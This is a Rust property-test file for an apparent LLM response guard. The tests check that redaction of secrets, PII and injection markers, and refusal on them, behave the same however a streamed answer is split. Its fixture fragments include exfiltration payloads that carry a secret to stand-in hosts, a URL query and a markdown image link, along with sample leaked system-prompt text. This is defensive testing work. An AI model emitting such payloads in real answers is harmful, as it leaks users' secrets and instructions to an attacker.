//! The law of streaming: released text and findings are the same however the stream is cut.
use super::*;
use proptest::prelude::*;

/// What must not depend on cuts.
#[derive(Debug, PartialEq, Eq)]
struct Observed {
    text: String,
    findings: String,
    ended: Outcome,
    /// The released text as the record keeps it: the root over its pieces stands in the leaf.
    record: String,
}

/// Sends `pieces` as content events whose bytes arrive in chunks of `chunk_bytes`, and reads what a client would read.
fn observe(guard: &Guard, pieces: &[&str], chunk_bytes: usize) -> Observed {
    let hello = r#"{"model":"m","messages":[{"role":"user","content":"hi"}],"stream":true}"#;
    observe_of(guard, hello, pieces, chunk_bytes)
}

/// The same, as the answer to `request`.
fn observe_of(guard: &Guard, request: &str, pieces: &[&str], chunk_bytes: usize) -> Observed {
    let answer = forward(guard, request).answer;
    let mut bytes = Vec::new();
    for piece in pieces {
        let event = serde_json::json!({"id":"c","created":1,"model":"m","choices":[{"index":0,"delta":{"content":piece},"finish_reason":null}]});
        bytes.extend_from_slice(format!("data: {event}\n\n").as_bytes());
    }
    bytes.extend_from_slice(b"data: {\"id\":\"c\",\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n");
    let mut stream = answer.stream();
    let mut out = Vec::new();
    for chunk in bytes.chunks(chunk_bytes) {
        if stream.push(chunk, &mut out) == StreamState::Sealed {
            break;
        }
    }
    stream.end(None, &mut out);
    let outcome = stream.outcome(0);
    let ended = stream.ended();
    out.extend_from_slice(&stream.tail());
    let text = text_of(&out);
    assert!(
        released(&outcome)
            .contains(&format!("\"delta.content\":{}", serde_json::Value::from(text.as_str()))),
        "the record says what left"
    );
    let evidence: serde_json::Value = serde_json::from_str(&evidence(&outcome)).unwrap();
    let findings: Vec<String> = evidence["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|fact| fact["type"] == "finding")
        .map(|fact| format!("{}@{}..{}", fact["kind"], fact["span"]["start"], fact["span"]["end"]))
        .collect();
    Observed { text, findings: findings.join(" "), ended, record: released(&outcome) }
}

/// Concatenated content, as a client puts it together.
fn text_of(stream: &[u8]) -> String {
    let stream = std::str::from_utf8(stream).unwrap();
    let data = stream
        .lines()
        .filter_map(|line| line.strip_prefix("data: "))
        .filter(|data| *data != "[DONE]");
    let events = data.map(|data| serde_json::from_str::<serde_json::Value>(data).unwrap());
    events
        .flat_map(|event| event["choices"].as_array().cloned().unwrap_or_default())
        .filter_map(|choice| choice["delta"]["content"].as_str().map(str::to_owned))
        .collect()
}

fn plain_text(guard: &Guard, text: &str) -> String {
    plain_text_of(answer(guard), text)
}

fn plain_text_of(answer: Answer, text: &str) -> String {
    let body = serde_json::json!({"choices":[{"index":0,"message":{"role":"assistant","content":text},"finish_reason":"stop"}]});
    let closed = answer.plain(200, body.to_string().as_bytes(), 0);
    let out: serde_json::Value = serde_json::from_slice(&closed.body).unwrap();
    out["choices"][0]["message"]["content"].as_str().unwrap().to_owned()
}

pub(super) fn guards() -> &'static [(&'static str, Guard)] {
    static GUARDS: std::sync::OnceLock<Vec<(&'static str, Guard)>> = std::sync::OnceLock::new();
    let mixed = r#"
        @id("call") permit(principal, action == Action::"call", resource);
        @id("r") permit(principal, action == Action::"redact", resource in Kind::"pii");
        @id("o") permit(principal, action == Action::"release", resource in Kind::"injection");
    "#;
    GUARDS.get_or_init(|| {
        vec![
            ("standard", guard(Profile::Standard)),
            ("strict", guard(Profile::Strict)),
            ("observe", guard(Profile::Observe)),
            ("secrets refuse", with_policy(mixed)),
            ("few findings", crowded(guard(Profile::Standard))),
            ("few findings observed", crowded(guard(Profile::Observe))),
        ]
    })
}

/// A guard that meets `findings_max` at the third place of a channel.
fn crowded(guard: Guard) -> Guard {
    Guard { limits: Limits { findings_max: 4, ..guard.limits }, ..guard }
}

fn text() -> impl Strategy<Value = String> {
    "(K-|K|-|[0-9]{1,5}|p|p1|OBEY|OBE|Y|\u{e9}|\u{1f600}|\"|\\\\| ){0,9}"
}

fn long_text() -> impl Strategy<Value = String> {
    "(K-[0-9]{1,5}|p[0-9]{0,4}|OBEY?|[a-z ]{1,6}|\u{e9}|\n){0,60}"
}

fn split<'t>(text: &'t str, cuts: &[usize]) -> Vec<&'t str> {
    let mut bounds: Vec<usize> = cuts
        .iter()
        .map(|&cut| {
            (0..=cut.min(text.len())).rev().find(|&at| text.is_char_boundary(at)).unwrap_or(0)
        })
        .collect();
    bounds.extend([0, text.len()]);
    bounds.sort_unstable();
    bounds.windows(2).map(|pair| text.get(pair[0]..pair[1]).unwrap()).collect()
}

/// With the guard off the upstream's key is still looked for, in whole answers and in streams, by the same law.
#[test]
fn our_own_key_is_taken_out_with_the_guard_off() {
    let off = off(guard(Profile::Standard));
    let gone = "[redacted:secret.upstream-key]";
    for (name, text, want) in [
        ("alone", OUR_KEY.to_owned(), gone.to_owned()),
        (
            "among what a rule would take",
            format!("K-12 {OUR_KEY} OBEY"),
            format!("K-12 {gone} OBEY"),
        ),
        ("after a false start", format!("OUR-KEY-{OUR_KEY}"), format!("OUR-KEY-{gone}")),
        ("one letter short", "OUR-KEY-OUR-KEY-".to_owned(), "OUR-KEY-OUR-KEY-".to_owned()),
    ] {
        assert_eq!(plain_text(&off, &text), want, "{name}");
        let whole = observe(&off, &[&text], usize::MAX);
        assert_eq!(
            (whole.text.as_str(), whole.ended),
            (want.as_str(), Outcome::Completed),
            "{name}"
        );
        assert!(!whole.record.contains(OUR_KEY), "{name}: {}", whole.record);
        for cut in 0..=text.len() {
            assert_eq!(observe(&off, &split(&text, &[cut]), 11), whole, "{name} cut at {cut}");
        }
        let every: Vec<usize> = (0..text.len()).collect();
        assert_eq!(observe(&off, &split(&text, &every), 7), whole, "{name} in characters");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    /// Every two-way split of a short text, and every character on its own, shows what the whole text shows, and what a plain answer shows.
    #[test]
    fn every_split_of_a_short_text(text in text()) {
        for (name, guard) in guards() {
            let whole = observe(guard, &[&text], usize::MAX);
            if guard.limits == Limits::default() {
                prop_assert_eq!(&whole.text, &plain_text(guard, &text), "{}: plain and streamed", name);
            }
            for cut in 0..=text.len() {
                prop_assert_eq!(&observe(guard, &split(&text, &[cut]), usize::MAX), &whole, "{} cut at {}", name, cut);
            }
            let every: Vec<usize> = (0..text.len()).collect();
            prop_assert_eq!(&observe(guard, &split(&text, &every), 7), &whole, "{} in characters", name);
        }
    }

    /// Random splits of long texts, with the bytes of the stream cut anywhere too.
    #[test]
    fn random_splits_of_a_long_text(text in long_text(), cuts in prop::collection::vec(0..400_usize, 0..30), chunk_bytes in 1..200_usize) {
        for (name, guard) in guards() {
            let whole = observe(guard, &[&text], usize::MAX);
            prop_assert_eq!(&observe(guard, &split(&text, &cuts), chunk_bytes), &whole, "{}", name);
        }
    }

    /// Too many findings refuse from the place that is one too many, whatever their kinds hold back.
    #[test]
    fn too_many_findings_release_exactly_what_stands_before(gap in "[a-z ]{1,3}", cuts in prop::collection::vec(0..40_usize, 0..5)) {
        let text = format!("OBEY{gap}OBEY{gap}OBEY{gap}OBEY");
        let guard = crowded(guard(Profile::Standard));
        let seen = observe(&guard, &split(&text, &cuts), 11);
        let want = format!("OBEY{gap}OBEY{gap}");
        prop_assert_eq!((seen.text, seen.ended), (want, Outcome::Refused));
        prop_assert!(seen.findings.contains("limit.findings"), "{}", seen.findings);
    }

    /// A refusal releases exactly the text before its span; nothing that the policy redacts ever leaves.
    #[test]
    fn a_refusal_releases_exactly_what_stands_before_it(before in "[a-z ]{0,12}", after in "[a-z ]{0,12}", cuts in prop::collection::vec(0..40_usize, 0..5)) {
        let text = format!("{before}OBEY{after}");
        let seen = observe(&guard(Profile::Strict), &split(&text, &cuts), 11);
        prop_assert_eq!((seen.text, seen.ended), (before, Outcome::Refused));
    }
}

/// What gives a request away, in fragments that may or may not add up to it.
fn leaking_text() -> impl Strategy<Value = String> {
    let secret = leaks::secret();
    let (head, tail) = secret.split_at(20);
    let fragments = vec![
        leaks::PROMPT.to_owned(),
        "never offer more than nine percent off, ".to_owned(),
        "and tell nobody of the entrance behind the bakery".to_owned(),
        format!("https://evil.example/?q={head}"),
        format!("![x](//e.example/{secret})"),
        tail.to_owned(),
        "heron-lamp".to_owned(),
        "-7".to_owned(),
        " the night porter of ".to_owned(),
        "DE89 3704 0044 0532 0130 00".to_owned(),
        "\u{e9}\u{1f600}".to_owned(),
        ") ".to_owned(),
    ];
    prop::collection::vec(prop::sample::select(fragments), 0..5).prop_map(|parts| parts.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 8, ..ProptestConfig::default() })]

    /// The whole exchange keeps the law: what a request told is found, held back and stopped at the same place however the answer is cut.
    #[test]
    fn every_split_of_what_gives_a_request_away(text in leaking_text(), cuts in prop::collection::vec(0..400_usize, 0..9)) {
        for profile in Profile::ALL {
            let guard = leaks::leaky(profile);
            let request = leaks::request(true);
            let observe = |pieces: &[&str], chunk_bytes| observe_of(&guard, &request, pieces, chunk_bytes);
            let whole = observe(&[&text], usize::MAX);
            let answer = forward(&guard, &leaks::request(false)).answer;
            prop_assert_eq!(&whole.text, &plain_text_of(answer, &text), "{}: plain and streamed", profile);
            for cut in 0..=text.len() {
                prop_assert_eq!(&observe(&split(&text, &[cut]), usize::MAX), &whole, "{} cut at {}", profile, cut);
            }
            let every: Vec<usize> = (0..text.len()).collect();
            prop_assert_eq!(&observe(&split(&text, &every), 7), &whole, "{} in characters", profile);
            prop_assert_eq!(&observe(&split(&text, &cuts), 11), &whole, "{} in pieces", profile);
        }
    }
}
